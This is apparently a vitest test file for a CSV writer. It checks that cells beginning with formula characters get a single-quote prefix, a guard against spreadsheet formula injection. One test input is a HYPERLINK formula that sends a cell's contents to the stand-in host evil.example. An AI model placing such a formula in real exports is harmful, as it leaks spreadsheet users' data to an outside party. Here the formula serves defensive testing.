import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../lib/csv';

// OWASP's CSV Injection list: a cell starting with =, +, -, @, tab or carriage return runs as a
// formula in a spreadsheet unless it starts with a single quote.

const back = (csv: string) => parse(csv, { relax_quotes: false }) as string[][];

describe('writeCsv', () => {
  it.each(['=1+1', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '＝1+1', '+55 (11) 0 98765-4321'])(
    'writes %j as quoted text after a single quote',
    (text) => {
      const csv = writeCsv([['name'], [text]]);
      expect(csv.split('\n')[1]!.startsWith(`"'`)).toBe(true);
      expect(back(csv)[1]![0]).toBe(`'${text}`);
    },
  );

  it('keeps numbers, and text that is a plain number, as they are', () => {
    const csv = writeCsv([['a', 'b', 'c', 'd', 'e'], [-12.5, '-12.50', 3n, '+15551234567', '1e5']]);
    expect(csv).toBe('a,b,c,d,e\n-12.5,-12.50,3,+15551234567,1e5\n');
  });

  it('leaves other text alone, quoting only what CSV needs', () => {
    expect(writeCsv([['Zoë "Zo"', 'a,b', ' x', 'plain', null, undefined, false]])).toBe('"Zoë ""Zo""","a,b"," x",plain,,,false\n');
  });
});
